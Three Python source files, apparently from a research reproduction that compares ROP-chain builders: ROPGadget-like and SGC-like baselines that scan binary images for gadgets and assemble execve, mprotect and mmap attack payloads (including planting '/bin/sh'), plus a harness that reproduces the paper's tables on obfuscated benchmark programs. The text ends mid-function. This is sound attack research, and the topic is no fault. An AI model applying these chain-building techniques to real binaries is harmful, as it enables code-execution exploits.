