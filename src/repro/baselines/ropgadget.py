"""ROPGadget-like baseline: syntax-level patterns + a fixed template.

Faithful to the strategy the paper critiques (Sec. III / VI):

* gadget *finding* is a pure syntactic scan (it reports big numbers);
* chain *building* only ever uses the hard-coded shapes
  ``pop <reg>; ret``, ``mov [<r1>], <r2>; ret`` and a bare ``syscall``,
  assembled by a fixed template.  "Once a gadget in the pattern is
  missing, the whole search will fail."
"""

from __future__ import annotations

from typing import Dict, List, Optional, Tuple

from ..binfmt.image import BinaryImage
from ..isa.instructions import Instruction, Op
from ..isa.registers import Reg
from ..gadgets.classify import SyntacticGadget, scan_syntactic_gadgets
from ..gadgets.record import GadgetRecord, JmpType
from ..planner.goals import ResolvedGoal
from ..planner.payload import AttackPayload
from ..staticanalysis.decode_graph import shared_decode_graph
from .common import BaselineTool


def _match_pop_ret(g: SyntacticGadget) -> Optional[Reg]:
    if len(g.insns) == 2 and g.insns[0].op in (Op.POP_R, Op.POP1) and g.insns[1].op == Op.RET:
        return g.insns[0].dst
    return None


def _match_write_ret(g: SyntacticGadget) -> Optional[Tuple[Reg, Reg]]:
    if (
        len(g.insns) == 2
        and g.insns[0].op == Op.STORE
        and g.insns[0].disp == 0
        and g.insns[1].op == Op.RET
    ):
        return g.insns[0].base, g.insns[0].src
    return None


def _match_syscall(g: SyntacticGadget) -> bool:
    return g.insns[0].op == Op.SYSCALL


class ROPGadgetLike(BaselineTool):
    """Pattern matching with a fixed ropchain template."""

    name = "ropgadget"

    def find_gadgets(self, image: BinaryImage) -> List[SyntacticGadget]:
        # Include a syscall-terminated scan: extend windows ending at
        # syscall (the classifier drops them, so scan separately).  All
        # decoding rides the shared per-process decode graph — the same
        # decode work extraction and the other baselines use.
        text = image.text
        graph = shared_decode_graph(text.data, text.addr)
        gadgets = scan_syntactic_gadgets(image, graph=graph)
        for insn in graph.insns:
            if insn is not None and insn.op == Op.SYSCALL:
                gadgets.append(
                    SyntacticGadget(addr=insn.addr, insns=[insn], kind=JmpType.UIJ)
                )
        return gadgets

    def build_chains(
        self, image: BinaryImage, gadgets: List[SyntacticGadget], resolved: ResolvedGoal
    ) -> List[AttackPayload]:
        pops: Dict[Reg, int] = {}
        writes: Dict[Tuple[Reg, Reg], int] = {}
        syscall_addr: Optional[int] = None
        for g in gadgets:
            reg = _match_pop_ret(g)
            if reg is not None and reg not in pops:
                pops[reg] = g.addr
            wr = _match_write_ret(g)
            if wr is not None and wr not in writes:
                writes[wr] = g.addr
            if _match_syscall(g) and syscall_addr is None:
                syscall_addr = g.addr
        if syscall_addr is None:
            return []

        words: List[int] = []
        chain_addrs: List[int] = []

        def emit(addr: int, *data: int) -> None:
            if not words:
                words.append(addr)
            else:
                words.append(addr)
            chain_addrs.append(addr)
            words.extend(data)

        # Memory goals first (plant "/bin/sh" etc. via the write template).
        for mg in resolved.memory_goals:
            usable = None
            for (addr_reg, val_reg), waddr in writes.items():
                if addr_reg in pops and val_reg in pops and addr_reg != val_reg:
                    usable = (addr_reg, val_reg, waddr)
                    break
            if usable is None:
                return []  # template incomplete → total failure
            addr_reg, val_reg, waddr = usable
            for target_addr, word in mg.words():
                emit(pops[addr_reg], target_addr)
                emit(pops[val_reg], word)
                emit(waddr)

        # Register goals via pop templates only.
        for reg, value in resolved.reg_values.items():
            pop_addr = pops.get(reg)
            if pop_addr is None:
                return []
            emit(pop_addr, value)
        emit(syscall_addr)

        payload = AttackPayload(
            goal_name=resolved.goal.name,
            words=words,
            chain=[_fake_record(a, image) for a in chain_addrs],
            entry_address=words[0],
        )
        # The template writes gadget addresses in-line; `words[0]` is the
        # first gadget and the rest already interleave addresses/data.
        return [payload]


def _fake_record(addr: int, image: BinaryImage) -> GadgetRecord:
    """A minimal record for reporting (ROPGadget has no semantics)."""
    from ..symex.executor import EndKind
    from ..symex.expr import bv_const

    insns: List[Instruction] = []
    text = image.text
    graph = shared_decode_graph(text.data, text.addr)
    offset = addr - text.addr
    for _ in range(4):
        insn = graph.decode_at(offset)
        if insn is None:
            break
        insns.append(insn)
        offset = insn.end - text.addr
        if insn.is_terminator():
            break
    return GadgetRecord(
        gadget_id=-1,
        location=addr,
        length=sum(i.size for i in insns),
        insns=insns,
        jmp_type=JmpType.RET,
        end=EndKind.RET,
        pre_cond=[],
        post_regs={},
        jump_target=bv_const(0),
        clob_regs=frozenset(),
        ctrl_regs=frozenset(),
        stack_delta=None,
        stack_smashed=False,
        mem_reads=[],
        mem_writes=[],
        max_stack_offset=0,
        conditional_jumps=0,
        merged_direct_jumps=0,
    )
