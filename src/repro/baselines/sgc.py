"""SGC-like baseline: solver-backed bounded synthesis.

Models the strategy of SGC (the paper's strongest peer): encode the
desired pre/post state as logical formulas, select a reduced candidate
pool per goal register ("a gadget selection function to reduce the
search area"), and query an SMT solver for a consistent assignment.
More capable than angrop — it solves non-trivial value equations
(``pop rax; add rax, 5; ret`` can set ``rax``) and uses indirect-jump
gadgets — but it has no notion of conditional gadgets, no direct-jump
merging, no regression through register moves, and a bounded
enumeration budget.
"""

from __future__ import annotations

import itertools
from typing import Dict, List, Optional, Sequence, Tuple

from ..binfmt.image import BinaryImage
from ..isa.registers import Reg
from ..solver.solver import Solver
from ..symex.executor import EndKind
from ..symex.expr import free_symbols
from ..symex.state import is_controlled_symbol
from ..gadgets.extract import ExtractionConfig, extract_gadgets
from ..gadgets.record import GadgetRecord
from ..planner.conditions import regress_equation
from ..planner.goals import ResolvedGoal
from ..planner.payload import AttackPayload, AssemblyError, assemble_payload
from ..planner.plan import GOAL_STEP, CausalLink, PartialPlan, Step
from ..planner.conditions import RegCondition
from .common import BaselineTool


def _usable(gadget: GadgetRecord) -> bool:
    if gadget.stack_smashed or gadget.pre_cond:
        return False
    if gadget.conditional_jumps or gadget.merged_direct_jumps:
        return False
    if gadget.stack_delta is None:
        return False
    if gadget.end is EndKind.RET:
        syms = free_symbols(gadget.jump_target)
        return bool(syms) and all(is_controlled_symbol(s) for s in syms)
    if gadget.end in (EndKind.JMP_REG, EndKind.JMP_MEM, EndKind.CALL_REG):
        syms = free_symbols(gadget.jump_target)
        return bool(syms) and all(is_controlled_symbol(s) for s in syms)
    return gadget.end is EndKind.SYSCALL


class SGCLike(BaselineTool):
    """Bounded solver-backed chain synthesis."""

    name = "sgc"

    def __init__(
        self,
        extraction: Optional[ExtractionConfig] = None,
        *,
        max_candidates_per_reg: int = 4,
        max_combinations: int = 64,
        max_chains_per_goal: int = 4,
    ):
        self.extraction = extraction or ExtractionConfig(
            include_conditional=False, merge_direct_jumps=False
        )
        self.solver = Solver()
        self.max_candidates_per_reg = max_candidates_per_reg
        self.max_combinations = max_combinations
        self.max_chains_per_goal = max_chains_per_goal

    def find_gadgets(self, image: BinaryImage) -> List[GadgetRecord]:
        return extract_gadgets(image, self.extraction)

    # -- gadget selection -----------------------------------------------------

    def _providers(self, gadgets: Sequence[GadgetRecord], reg: Reg, value: int):
        out = []
        for g in gadgets:
            if not _usable(g) or g.end is EndKind.SYSCALL:
                continue
            if reg not in g.clob_regs:
                continue
            provision = regress_equation(g.post_regs[reg], value, self.solver, max_regressed_regs=0)
            if provision is None:
                continue
            out.append((g, provision.bindings))
            if len(out) >= self.max_candidates_per_reg:
                break
        return out

    def _writers(self, gadgets: Sequence[GadgetRecord], addr: int, value: int):
        out = []
        for g in gadgets:
            if not _usable(g) or g.end is EndKind.SYSCALL:
                continue
            side = [w for w in g.mem_writes if w.stack_offset is None and w.width == 8]
            if len(side) != 1:
                continue
            write = side[0]
            addr_p = regress_equation(write.addr, addr, self.solver, max_regressed_regs=1)
            value_p = regress_equation(write.value, value, self.solver, max_regressed_regs=1)
            if addr_p is None or value_p is None:
                continue
            out.append((g, addr_p, value_p))
            if len(out) >= 2:
                break
        return out

    # -- chaining ------------------------------------------------------------------

    def build_chains(
        self, image: BinaryImage, gadgets: List[GadgetRecord], resolved: ResolvedGoal
    ) -> List[AttackPayload]:
        syscall_gadgets = [
            g for g in gadgets if g.end is EndKind.SYSCALL and _usable(g) and g.num_insns <= 2
        ]
        if not syscall_gadgets or resolved.memory_goals and not self._memory_plan_possible(
            gadgets, resolved
        ):
            return []
        goal_regs = list(resolved.reg_values.items())
        candidate_sets = []
        for reg, value in goal_regs:
            providers = self._providers(gadgets, reg, value)
            if not providers:
                return []
            candidate_sets.append(providers)

        payloads: List[AttackPayload] = []
        combos = itertools.islice(itertools.product(*candidate_sets), self.max_combinations)
        for combo in combos:
            plan = self._plan_from_combo(syscall_gadgets[0], goal_regs, combo, gadgets, resolved)
            if plan is None:
                continue
            try:
                payload = assemble_payload(plan, resolved, solver=self.solver)
            except AssemblyError:
                continue
            payloads.append(payload)
            if len(payloads) >= self.max_chains_per_goal:
                break
        return payloads

    def _memory_plan_possible(self, gadgets, resolved) -> bool:
        for mg in resolved.memory_goals:
            for addr, word in mg.words():
                if not self._writers(gadgets, addr, word):
                    return False
        return True

    def _plan_from_combo(
        self,
        syscall_gadget: GadgetRecord,
        goal_regs: List[Tuple[Reg, int]],
        combo,
        gadgets: Sequence[GadgetRecord],
        resolved: ResolvedGoal,
    ) -> Optional[PartialPlan]:
        """Build a complete, totally-ordered PartialPlan for assembly."""
        steps: Dict[int, Step] = {GOAL_STEP: Step(GOAL_STEP, syscall_gadget)}
        bindings: Dict[int, Tuple] = {GOAL_STEP: ()}
        links: List[CausalLink] = []
        chain_order: List[int] = []
        sid = 1

        # Memory goals first (fixed order, solver-matched writers).
        for mg in resolved.memory_goals:
            for addr, word in mg.words():
                writers = self._writers(gadgets, addr, word)
                if not writers:
                    return None
                writer, addr_p, value_p = writers[0]
                regressed = {rc.reg: rc.value for rc in addr_p.regressed + value_p.regressed}
                provider_sids: List[Tuple[int, Reg, int]] = []
                feasible = True
                for reg, value in regressed.items():
                    providers = self._providers(gadgets, reg, value)
                    if not providers:
                        feasible = False
                        break
                    pg, pbind = providers[0]
                    steps[sid] = Step(sid, pg)
                    bindings[sid] = tuple(pbind)
                    chain_order.append(sid)
                    provider_sids.append((sid, reg, value))
                    sid += 1
                if not feasible:
                    return None
                writer_sid = sid
                steps[writer_sid] = Step(writer_sid, writer)
                bindings[writer_sid] = tuple(addr_p.bindings + value_p.bindings)
                chain_order.append(writer_sid)
                sid += 1
                for psid, reg, value in provider_sids:
                    links.append(CausalLink(psid, writer_sid, RegCondition(reg, value)))

        # One provider per goal register; order = given, conflict-checked.
        for (reg, value), (gadget, gbind) in zip(goal_regs, combo):
            steps[sid] = Step(sid, gadget)
            bindings[sid] = tuple(gbind)
            links.append(CausalLink(sid, GOAL_STEP, RegCondition(reg, value)))
            chain_order.append(sid)
            sid += 1

        # Static clobber check: no later step may clobber an established reg.
        established: Dict[Reg, int] = {}
        position = {s: i for i, s in enumerate(chain_order)}
        for link in links:
            if link.consumer == GOAL_STEP:
                provider_pos = position[link.provider]
                for other in chain_order[provider_pos + 1 :]:
                    if steps[other].gadget is not steps[link.provider].gadget and link.condition.reg in steps[other].gadget.clob_regs:
                        return None
            else:
                provider_pos = position[link.provider]
                consumer_pos = position.get(link.consumer)
                if consumer_pos is None:
                    return None
                for other in chain_order[provider_pos + 1 : consumer_pos]:
                    if link.condition.reg in steps[other].gadget.clob_regs:
                        return None

        orderings = set()
        for a, b in zip(chain_order, chain_order[1:]):
            orderings.add((a, b))
        for s in chain_order:
            orderings.add((s, GOAL_STEP))
        return PartialPlan(
            steps=steps,
            orderings=frozenset(orderings),
            links=tuple(links),
            open_conds=(),
            bindings=bindings,
        )
