"""Experiment harness: one driver per table/figure of the paper.

Every experiment (Fig. 1, Table I, Table IV, Table V, Fig. 5,
Table VI, Table VII, the netperf case study) is a function here; the
files under ``benchmarks/`` are thin pytest-benchmark wrappers that
call these drivers and print the reproduced rows.

Cost control: the paper ran days of experiments on a Xeon server; this
reproduction runs minutes on a laptop.  Semantic extraction is capped
per binary via ``ExtractionConfig.max_candidates`` — the cap and the
number of dropped candidates are part of every result (no silent
truncation), and the *shapes* the paper reports are preserved (see
EXPERIMENTS.md for paper-vs-measured values).
"""

from __future__ import annotations

import tracemalloc
from dataclasses import dataclass, field
from typing import Dict, List, Sequence, Tuple

from ..baselines import AngropLike, ROPGadgetLike, SGCLike
from ..compiler.link import LinkedProgram
from ..emulator.cpu import run_image
from ..gadgets.classify import count_by_type, scan_syntactic_gadgets
from ..gadgets.extract import ExtractionConfig
from ..gadgets.record import JmpType
from ..obfuscation.pipeline import CONFIGS, SINGLE_METHOD_CONFIGS, build_program
from ..planner import GadgetPlanner, PlannerConfig
from ..planner.payload import AttackPayload
from .programs import BENCHMARK_SUITE, CORE_SUITE, BenchProgram
from .spec_programs import SPEC_SUITE

DEFAULT_SEED = 7

#: Extraction budget used by the benchmarks (documented cap).
BENCH_EXTRACTION = ExtractionConfig(max_insns=12, max_paths=4, max_candidates=None)
BENCH_PLANNER = PlannerConfig(max_nodes=3000, max_plans=18, max_steps=8, providers_per_cond=4)

#: The three build configurations of Table IV / Fig. 1.
MAIN_CONFIGS = ("none", "llvm_obf", "tigress")


# ---------------------------------------------------------------------------
# Program matrix with caching
# ---------------------------------------------------------------------------

_BUILD_CACHE: Dict[Tuple[str, str, int], LinkedProgram] = {}


def _program_source(name: str) -> BenchProgram:
    if name in BENCHMARK_SUITE:
        return BENCHMARK_SUITE[name]
    if name in SPEC_SUITE:
        return SPEC_SUITE[name]
    if name == "netperf":
        from .netperf import NETPERF_PROGRAM

        return NETPERF_PROGRAM
    raise KeyError(f"unknown benchmark program {name!r}")


def build(name: str, config_name: str = "none", seed: int = DEFAULT_SEED) -> LinkedProgram:
    """Compile (and cache) one benchmark program under one config."""
    key = (name, config_name, seed)
    if key not in _BUILD_CACHE:
        program = _program_source(name)
        _BUILD_CACHE[key] = build_program(program.source, CONFIGS[config_name], seed=seed)
    return _BUILD_CACHE[key]


def verify_semantics(name: str, config_name: str, seed: int = DEFAULT_SEED,
                     step_limit: int = 60_000_000) -> bool:
    """Check the obfuscated build behaves exactly like the original."""
    base = run_image(build(name, "none", seed).image, step_limit=step_limit)
    obf = run_image(build(name, config_name, seed).image, step_limit=step_limit)
    return base == obf


# ---------------------------------------------------------------------------
# Fig. 1 — gadget counts, original vs obfuscated
# ---------------------------------------------------------------------------


@dataclass
class Fig1Row:
    program: str
    counts: Dict[str, int]  # config name → # syntactic gadgets


def fig1_gadget_counts(
    programs: Sequence[str] = tuple(BENCHMARK_SUITE),
    configs: Sequence[str] = MAIN_CONFIGS,
    seed: int = DEFAULT_SEED,
) -> List[Fig1Row]:
    rows = []
    for name in programs:
        counts = {}
        for config in configs:
            image = build(name, config, seed).image
            counts[config] = len(scan_syntactic_gadgets(image))
        rows.append(Fig1Row(program=name, counts=counts))
    return rows


def format_fig1(rows: List[Fig1Row]) -> str:
    configs = list(rows[0].counts)
    header = f"{'program':<18}" + "".join(f"{c:>12}" for c in configs)
    lines = [header, "-" * len(header)]
    for row in rows:
        lines.append(f"{row.program:<18}" + "".join(f"{row.counts[c]:>12}" for c in configs))
    totals = {c: sum(r.counts[c] for r in rows) for c in configs}
    lines.append(f"{'TOTAL':<18}" + "".join(f"{totals[c]:>12}" for c in configs))
    return "\n".join(lines)


# ---------------------------------------------------------------------------
# Table I — gadget types, original vs obfuscated, increase rate
# ---------------------------------------------------------------------------


@dataclass
class Table1Row:
    gadget_type: JmpType
    original: int
    obfuscated: int

    @property
    def increase_rate(self) -> float:
        if self.original == 0:
            return float("inf") if self.obfuscated else 0.0
        return (self.obfuscated - self.original) / self.original


def table1_type_counts(
    programs: Sequence[str] = tuple(BENCHMARK_SUITE),
    obfuscated_config: str = "llvm_obf",
    seed: int = DEFAULT_SEED,
) -> List[Table1Row]:
    totals_orig: Dict[JmpType, int] = {}
    totals_obf: Dict[JmpType, int] = {}
    for name in programs:
        for config, bucket in (("none", totals_orig), (obfuscated_config, totals_obf)):
            image = build(name, config, seed).image
            for kind, count in count_by_type(scan_syntactic_gadgets(image)).items():
                bucket[kind] = bucket.get(kind, 0) + count
    return [
        Table1Row(gadget_type=k, original=totals_orig.get(k, 0), obfuscated=totals_obf.get(k, 0))
        for k in (JmpType.RET, JmpType.UDJ, JmpType.UIJ, JmpType.CDJ, JmpType.CIJ)
    ]


def format_table1(rows: List[Table1Row]) -> str:
    header = f"{'type':<8}{'original':>12}{'obfuscated':>12}{'IR':>10}"
    lines = [header, "-" * len(header)]
    for row in rows:
        rate = f"{row.increase_rate * 100:.1f}%"
        lines.append(
            f"{row.gadget_type.value.upper():<8}{row.original:>12}{row.obfuscated:>12}{rate:>10}"
        )
    return "\n".join(lines)


# ---------------------------------------------------------------------------
# Table IV — tools × configs: gadgets, payloads per attack
# ---------------------------------------------------------------------------

TOOL_NAMES = ("ropgadget", "angrop", "sgc", "gadget_planner")


@dataclass
class ToolResult:
    tool: str
    gadgets_total: int = 0
    gadgets_used: int = 0
    per_goal: Dict[str, int] = field(default_factory=dict)
    payloads: List[AttackPayload] = field(default_factory=list)

    @property
    def total_payloads(self) -> int:
        return sum(self.per_goal.values())


_PIPELINE_CACHE: Dict[Tuple[str, str, str, int], ToolResult] = {}


def _make_tool(tool: str):
    if tool == "ropgadget":
        return ROPGadgetLike()
    if tool == "angrop":
        return AngropLike(
            ExtractionConfig(
                include_conditional=False,
                merge_direct_jumps=False,
                max_insns=BENCH_EXTRACTION.max_insns,
                max_paths=1,
                max_candidates=BENCH_EXTRACTION.max_candidates,
            )
        )
    if tool == "sgc":
        return SGCLike(
            ExtractionConfig(
                include_conditional=False,
                merge_direct_jumps=False,
                max_insns=BENCH_EXTRACTION.max_insns,
                max_paths=1,
                max_candidates=BENCH_EXTRACTION.max_candidates,
            )
        )
    raise KeyError(tool)


def run_tool(
    tool: str, program: str, config: str, seed: int = DEFAULT_SEED
) -> ToolResult:
    """Run one tool against one build (cached)."""
    key = (tool, program, config, seed)
    if key in _PIPELINE_CACHE:
        return _PIPELINE_CACHE[key]
    image = build(program, config, seed).image
    if tool == "gadget_planner":
        planner = GadgetPlanner(image, extraction=BENCH_EXTRACTION, planner=BENCH_PLANNER)
        report = planner.run()
        result = ToolResult(
            tool=tool,
            gadgets_total=report.gadgets_total,
            gadgets_used=report.gadgets_used(),
            per_goal=dict(report.per_goal),
            payloads=list(report.payloads),
        )
    else:
        baseline = _make_tool(tool)
        report = baseline.run(image)
        result = ToolResult(
            tool=tool,
            gadgets_total=report.gadgets_total,
            gadgets_used=report.gadgets_used(),
            per_goal=dict(report.per_goal),
            payloads=list(report.payloads),
        )
    _PIPELINE_CACHE[key] = result
    return result


@dataclass
class Table4Cell:
    config: str
    tool: str
    gadgets_total: int
    gadgets_used: int
    execve: int
    mprotect: int
    mmap: int
    new_vs_original: int = 0

    @property
    def total(self) -> int:
        return self.execve + self.mprotect + self.mmap


def table4_tool_comparison(
    programs: Sequence[str] = CORE_SUITE,
    configs: Sequence[str] = MAIN_CONFIGS,
    tools: Sequence[str] = TOOL_NAMES,
    seed: int = DEFAULT_SEED,
) -> List[Table4Cell]:
    cells: List[Table4Cell] = []
    baseline_totals: Dict[str, int] = {}
    for config in configs:
        for tool in tools:
            gadgets_total = 0
            gadgets_used = 0
            goals = {"execve": 0, "mprotect": 0, "mmap": 0}
            for program in programs:
                result = run_tool(tool, program, config, seed)
                gadgets_total += result.gadgets_total
                gadgets_used += result.gadgets_used
                for goal, count in result.per_goal.items():
                    goals[goal] = goals.get(goal, 0) + count
            cell = Table4Cell(
                config=config,
                tool=tool,
                gadgets_total=gadgets_total,
                gadgets_used=gadgets_used,
                execve=goals["execve"],
                mprotect=goals["mprotect"],
                mmap=goals["mmap"],
            )
            if config == "none":
                baseline_totals[tool] = cell.total
            else:
                cell.new_vs_original = max(0, cell.total - baseline_totals.get(tool, 0))
            cells.append(cell)
    return cells


def format_table4(cells: List[Table4Cell]) -> str:
    header = (
        f"{'config':<10}{'tool':<16}{'gadgets':>9}{'used':>6}"
        f"{'execve':>8}{'mprotect':>9}{'mmap':>6}{'total':>7}{'(new)':>7}"
    )
    lines = [header, "-" * len(header)]
    for c in cells:
        lines.append(
            f"{c.config:<10}{c.tool:<16}{c.gadgets_total:>9}{c.gadgets_used:>6}"
            f"{c.execve:>8}{c.mprotect:>9}{c.mmap:>6}{c.total:>7}"
            f"{('(' + str(c.new_vs_original) + ')') if c.config != 'none' else '':>7}"
        )
    return "\n".join(lines)


# ---------------------------------------------------------------------------
# Table V — chain properties per tool
# ---------------------------------------------------------------------------


@dataclass
class Table5Row:
    tool: str
    avg_gadget_len: float
    avg_chain_len: float
    pct_ret: float
    pct_ij: float
    pct_dj: float
    pct_cj: float


def _chain_type(gadget) -> str:
    if gadget.conditional_jumps > 0:
        return "cj"
    if gadget.merged_direct_jumps > 0:
        return "dj"
    from ..symex.executor import EndKind

    if gadget.end in (EndKind.JMP_REG, EndKind.JMP_MEM, EndKind.CALL_REG):
        return "ij"
    return "ret"


def table5_chain_properties(
    cells_payloads: Dict[str, List[AttackPayload]]
) -> List[Table5Row]:
    """Compute Table V from the payloads each tool produced."""
    rows = []
    for tool, payloads in cells_payloads.items():
        gadget_lens: List[int] = []
        chain_lens: List[int] = []
        type_counts = {"ret": 0, "ij": 0, "dj": 0, "cj": 0}
        for payload in payloads:
            chain_lens.append(sum(len(g.insns) for g in payload.chain))
            for gadget in payload.chain:
                gadget_lens.append(len(gadget.insns))
                type_counts[_chain_type(gadget)] += 1
        total_gadgets = max(sum(type_counts.values()), 1)
        rows.append(
            Table5Row(
                tool=tool,
                avg_gadget_len=sum(gadget_lens) / max(len(gadget_lens), 1),
                avg_chain_len=sum(chain_lens) / max(len(chain_lens), 1),
                pct_ret=100 * type_counts["ret"] / total_gadgets,
                pct_ij=100 * type_counts["ij"] / total_gadgets,
                pct_dj=100 * type_counts["dj"] / total_gadgets,
                pct_cj=100 * type_counts["cj"] / total_gadgets,
            )
        )
    return rows


def collect_payloads_by_tool(
    programs: Sequence[str] = CORE_SUITE,
    configs: Sequence[str] = MAIN_CONFIGS,
    tools: Sequence[str] = TOOL_NAMES,
    seed: int = DEFAULT_SEED,
) -> Dict[str, List[AttackPayload]]:
    out: Dict[str, List[AttackPayload]] = {t: [] for t in tools}
    for config in configs:
        for tool in tools:
            for program in programs:
                out[tool].extend(run_tool(tool, program, config, seed).payloads)
    return out


def format_table5(rows: List[Table5Row]) -> str:
    header = (
        f"{'tool':<16}{'gadget len':>11}{'chain len':>11}"
        f"{'Ret%':>7}{'IJ%':>7}{'DJ%':>7}{'CJ%':>7}"
    )
    lines = [header, "-" * len(header)]
    for r in rows:
        lines.append(
            f"{r.tool:<16}{r.avg_gadget_len:>11.1f}{r.avg_chain_len:>11.1f}"
            f"{r.pct_ret:>7.1f}{r.pct_ij:>7.1f}{r.pct_dj:>7.1f}{r.pct_cj:>7.1f}"
        )
    return "\n".join(lines)


# ---------------------------------------------------------------------------
# Fig. 5 — payloads per individual obfuscation method
# ---------------------------------------------------------------------------


def fig5_per_method(
    programs: Sequence[str] = CORE_SUITE,
    seed: int = DEFAULT_SEED,
) -> Dict[str, int]:
    """Gadget-Planner payload counts per single obfuscation method."""
    out: Dict[str, int] = {}
    for config in SINGLE_METHOD_CONFIGS:
        total = 0
        for program in programs:
            total += run_tool("gadget_planner", program, config.name, seed).total_payloads
        out[config.name] = total
    return out


def format_fig5(counts: Dict[str, int]) -> str:
    width = max(counts.values()) or 1
    lines = [f"{'method':<20}{'payloads':>9}  "]
    for method, count in sorted(counts.items(), key=lambda kv: -kv[1]):
        bar = "#" * int(30 * count / width)
        lines.append(f"{method:<20}{count:>9}  {bar}")
    return "\n".join(lines)


# ---------------------------------------------------------------------------
# Table VI — SPEC benchmark comparison
# ---------------------------------------------------------------------------


@dataclass
class Table6Row:
    benchmark: str
    config: str
    gadgets: int
    chains: Dict[str, int]  # tool → chains


def table6_spec(
    configs: Sequence[str] = MAIN_CONFIGS,
    tools: Sequence[str] = TOOL_NAMES,
    seed: int = DEFAULT_SEED,
) -> List[Table6Row]:
    rows = []
    for name in SPEC_SUITE:
        for config in configs:
            image = build(name, config, seed).image
            gadget_count = len(scan_syntactic_gadgets(image))
            chains = {}
            for tool in tools:
                chains[tool] = run_tool(tool, name, config, seed).total_payloads
            rows.append(Table6Row(benchmark=name, config=config, gadgets=gadget_count, chains=chains))
    return rows


def format_table6(rows: List[Table6Row]) -> str:
    tools = list(rows[0].chains)
    header = f"{'benchmark':<14}{'config':<10}{'gadgets':>9}" + "".join(f"{t[:10]:>12}" for t in tools)
    lines = [header, "-" * len(header)]
    for r in rows:
        lines.append(
            f"{r.benchmark:<14}{r.config:<10}{r.gadgets:>9}"
            + "".join(f"{r.chains[t]:>12}" for t in tools)
        )
    return "\n".join(lines)


# ---------------------------------------------------------------------------
# Table VII — performance per stage on obfuscated netperf
# ---------------------------------------------------------------------------


@dataclass
class Table7Row:
    tool: str
    stage: str
    seconds: float
    peak_mb: float


def table7_performance(config: str = "llvm_obf", seed: int = DEFAULT_SEED) -> List[Table7Row]:
    from .netperf import netperf_image

    linked = netperf_image(CONFIGS[config], seed=seed)
    rows: List[Table7Row] = []

    # Gadget-Planner, instrumented per stage.
    tracemalloc.start()
    planner = GadgetPlanner(linked.image, extraction=BENCH_EXTRACTION, planner=BENCH_PLANNER)
    report = planner.run()
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    peak_mb = peak / 1e6
    t = report.timings
    rows += [
        Table7Row("gadget_planner", "gadget extraction", t.extraction, peak_mb),
        Table7Row("gadget_planner", "subsumption testing", t.subsumption, peak_mb),
        Table7Row("gadget_planner", "planning", t.planning, peak_mb),
        Table7Row("gadget_planner", "post-processing", t.postprocessing, peak_mb),
        Table7Row("gadget_planner", "total", t.total, peak_mb),
    ]
    for tool in ("angrop", "sgc"):
        tracemalloc.start()
        baseline_report = _make_tool(tool).run(linked.image)
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        rows += [
            Table7Row(tool, "gadgets finding", baseline_report.finding_time, peak / 1e6),
            Table7Row(tool, "chain generating", baseline_report.chaining_time, peak / 1e6),
            Table7Row(
                tool,
                "total",
                baseline_report.finding_time + baseline_report.chaining_time,
                peak / 1e6,
            ),
        ]
    return rows


def format_table7(rows: List[Table7Row]) -> str:
    header = f"{'tool':<16}{'stage':<22}{'time (s)':>10}{'peak MB':>10}"
    lines = [header, "-" * len(header)]
    for r in rows:
        lines.append(f"{r.tool:<16}{r.stage:<22}{r.seconds:>10.2f}{r.peak_mb:>10.1f}")
    return "\n".join(lines)


# ---------------------------------------------------------------------------
# Pipeline performance — parallel sharding + persistent cache (repro.pipeline)
# ---------------------------------------------------------------------------


def pipeline_benchmark(
    config_name: str = "llvm_obf",
    seed: int = DEFAULT_SEED,
    jobs_list: Sequence[int] = (1, 2, 4),
    cache_dir=None,
) -> Dict:
    """Measure the repro.pipeline fast paths on obfuscated netperf.

    Returns a JSON-ready dict: per-``jobs`` extraction/winnow timings
    with speedups over the serial reference (and a byte-identity flag
    for each), plus a cold/warm persistent-cache pair.  ``cpu_count``
    is recorded so a 1-core CI runner's ~1× "speedups" read as what
    they are — the honest-measurement policy applied to perf claims.

    All wall numbers come from the span-derived ``wall_total`` stats
    fields (:mod:`repro.obs`), the same measurements a ``--trace`` run
    exports — not from a second ad-hoc clock around the calls.
    """
    import os
    import shutil
    import tempfile

    from ..gadgets.extract import ExtractionStats, extract_gadgets
    from ..gadgets.subsumption import SubsumptionStats, deduplicate_gadgets
    from ..pipeline import ResultCache, extract_pool, pool_to_bytes, winnow_pool
    from .netperf import netperf_image

    image = netperf_image(CONFIGS[config_name], seed=seed).image
    config = BENCH_EXTRACTION
    result: Dict = {
        "benchmark": "netperf",
        "config": config_name,
        "seed": seed,
        "cpu_count": os.cpu_count(),
        "runs": [],
        "cache": {},
    }

    # Serial reference (the path every parallel run must reproduce).
    ser_es, ser_ss = ExtractionStats(), SubsumptionStats()
    serial_records = extract_gadgets(image, config, ser_es)
    serial_extract_wall = ser_es.wall_total
    serial_survivors = deduplicate_gadgets(serial_records, stats=ser_ss)
    serial_winnow_wall = ser_ss.wall_total
    serial_pool = pool_to_bytes(serial_records)
    serial_winnowed = pool_to_bytes(serial_survivors)
    result["serial"] = {
        "extracted": len(serial_records),
        "winnowed": len(serial_survivors),
        "extract_seconds": serial_extract_wall,
        "winnow_seconds": serial_winnow_wall,
        "solver_checks": ser_ss.solver_checks,
        "memo_hit_rate": ser_ss.memo_hit_rate,
    }

    for jobs in jobs_list:
        es, ss = ExtractionStats(), SubsumptionStats()
        records = extract_pool(image, config, es, jobs=jobs)
        extract_wall = es.wall_total
        survivors = winnow_pool(records, ss, jobs=jobs)
        winnow_wall = ss.wall_total
        result["runs"].append(
            {
                "jobs": jobs,
                "extract_seconds": extract_wall,
                "winnow_seconds": winnow_wall,
                "extract_speedup": serial_extract_wall / extract_wall if extract_wall else 0.0,
                "winnow_speedup": serial_winnow_wall / winnow_wall if winnow_wall else 0.0,
                "extract_identical": pool_to_bytes(records) == serial_pool,
                "winnow_identical": pool_to_bytes(survivors) == serial_winnowed,
                "memo_hit_rate": ss.memo_hit_rate,
            }
        )

    root = cache_dir or tempfile.mkdtemp(prefix="nfl-bench-cache-")
    try:
        cache = ResultCache(root=root)
        cold_es, cold_ss = ExtractionStats(), SubsumptionStats()
        image_bytes = image.to_bytes()
        cold = extract_pool(image, config, cold_es, jobs=1, cache=cache, image_bytes=image_bytes)
        winnow_pool(
            cold, cold_ss, jobs=1, cache=cache, image_bytes=image_bytes, config=config
        )
        cold_wall = cold_es.wall_total + cold_ss.wall_total
        warm_es, warm_ss = ExtractionStats(), SubsumptionStats()
        warm = extract_pool(image, config, warm_es, jobs=1, cache=cache, image_bytes=image_bytes)
        winnow_pool(
